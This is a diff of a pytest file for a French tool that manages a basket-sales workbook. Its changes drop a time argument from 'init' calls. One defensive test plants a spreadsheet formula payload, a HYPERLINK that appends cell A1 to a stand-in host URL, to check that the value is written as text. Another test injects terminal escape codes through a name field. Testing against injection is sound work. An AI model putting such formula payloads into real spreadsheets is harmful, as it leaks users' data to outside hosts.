@@ -29,7 +29,7 @@ def run(capsys, *argv):
 
 
 def test_init_creates_a_config_and_a_workbook_with_every_tab(folder, capsys):
-    code, out, _ = run(capsys, "init", *NOW)
+    code, out, _ = run(capsys, "init")
     assert code == 0
     assert (folder / "config.toml").exists() and "Configuration créée" in out
     store = LocalWorkbookStore(folder / "paniers.xlsx")
@@ -40,28 +40,28 @@ def test_init_creates_a_config_and_a_workbook_with_every_tab(folder, capsys):
 
 
 def test_init_never_overwrites_a_tab_with_data(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     before = store.read(["Produits", "Clients"])
-    code, out, _ = run(capsys, "init", "--demo", *NOW)
+    code, out, _ = run(capsys, "init", "--demo")
     assert code == 0
     assert "L'onglet « Produits » contient déjà des données : il est laissé tel quel." in out
     assert store.read(["Produits", "Clients"]) == before
 
 
 def test_init_fills_only_the_empty_tabs(folder, capsys):
-    run(capsys, "init", *NOW)
+    run(capsys, "init")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     from sync.stores import Changes
     store.write(Changes(replace={"Produits": [sheet.PRODUCTS.header, ["MINE", "X", "Mon produit", "", "1"]]}))
-    code, _out, _ = run(capsys, "init", "--demo", *NOW)
+    code, _out, _ = run(capsys, "init", "--demo")
     assert code == 0
     assert store.read(["Produits"])["Produits"][1][0] == "MINE"
     assert len(store.read(["Producteurs"])["Producteurs"]) == 9
 
 
 def test_check_reports_in_french_and_writes_anomalies(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     grid = store.read(["Produits"])["Produits"]
     grid[3][4] = "4,8O"  # a typo in a price
@@ -100,7 +100,7 @@ def test_unreadable_now_is_bad_usage(folder, capsys):
 
 
 def test_workbook_open_in_libreoffice(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     (folder / ".~lock.paniers.xlsx#").write_text("x")
     code, _, err = run(capsys, "check", *NOW)
     assert code == 1 and "Fermez-le dans LibreOffice" in err
@@ -110,7 +110,7 @@ def test_config_option_points_elsewhere(tmp_path, capsys):
     config = tmp_path / "ailleurs" / "config.toml"
     config.parent.mkdir()
     config.write_text("[store]\npath = 'groupe.xlsx'\n", encoding="utf-8")
-    code, _, _ = run(capsys, "--config", str(config), "init", *NOW)
+    code, _, _ = run(capsys, "--config", str(config), "init")
     assert code == 0 and (tmp_path / "ailleurs" / "groupe.xlsx").exists()
     code, _, _ = run(capsys, "check", "--config", str(config), *NOW)
     assert code == 0
@@ -133,7 +133,7 @@ def test_console_script_and_python_jobs_py_are_the_same_entry_point(tmp_path):
 
 
 def test_lists_writes_the_documents_of_a_sale(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     code, out, _ = run(capsys, "lists", "--sale", "2026-12", "--out", str(folder / "impressions"), "--now",
                        "2026-12-11 10:00")
     assert code == 0
@@ -146,7 +146,7 @@ def test_lists_writes_the_documents_of_a_sale(folder, capsys):
 
 
 def test_check_writes_the_sign_off_tab_and_keeps_a_paid_mark(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     run(capsys, "check", "--now", "2026-12-11 10:00")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     grid = store.read(["Émargement"])["Émargement"]
@@ -164,7 +164,7 @@ def test_check_writes_the_sign_off_tab_and_keeps_a_paid_mark(folder, capsys):
 
 
 def test_a_sale_dated_in_year_9999_is_an_anomaly_of_its_row_and_every_job_goes_on(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     sales = store.read(["Ventes"])["Ventes"]
     row = list(sales[1]) + [""] * (len(sales[0]) - len(sales[1]))
@@ -191,7 +191,7 @@ def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(
 
     from openpyxl import load_workbook
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     products = store.read(["Produits"])["Produits"]
     hostile = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
@@ -213,7 +213,7 @@ def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(
 
 
 def test_escape_codes_typed_in_a_name_never_reach_the_terminal(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     tab = "Réponses au formulaire 1"
     responses = store.read([tab])[tab]
@@ -248,7 +248,7 @@ def test_a_40000_character_answer_becomes_a_32767_character_cell_ending_with_an_
     from openpyxl import load_workbook
     from python_calamine import CalamineWorkbook
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     path = folder / "paniers.xlsx"
     book = load_workbook(path)  # the answers tab as Google Sheets holds it (50 000 characters a cell), bypassing
     sheet = book["Réponses au formulaire 1"]  # the store, which would cut it on its way in
@@ -276,7 +276,7 @@ def test_check_waits_for_a_running_tick_and_writes_nothing_meanwhile(folder, cap
 
     from sync.runlock import exclusive
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     path = folder / "paniers.xlsx"
     store = LocalWorkbookStore(path)
     tab = "Réponses au formulaire 1"
@@ -291,7 +291,7 @@ def test_check_waits_for_a_running_tick_and_writes_nothing_meanwhile(folder, cap
         assert "Un autre passage de Paniers est en cours (processus" in out
         assert "« paniers check » s'arrête sans rien écrire" in out
         assert path.read_bytes() == before  # Clients, and everything else, as the tick will find it
-        code, out, _ = run(capsys, "init", *NOW)
+        code, out, _ = run(capsys, "init")
         assert code == 0 and "« paniers init » s'arrête sans rien écrire" in out
     code, out, _ = run(capsys, "check", *NOW)  # the tick done: check does its work
     assert code == 0 and "1 nouveau foyer ajouté" in out
@@ -305,7 +305,7 @@ def test_publish_form_sends_nothing_while_another_run_holds_the_lock(folder, cap
     from sync.commands import Context, publish_form
     from sync.runlock import exclusive
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     form_id = "1FbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEF"
     text = (folder / "config.toml").read_text(encoding="utf-8")
     (folder / "config.toml").write_text(text.replace('# form_id = "1FbC..."', f'form_id = "{form_id}"'))
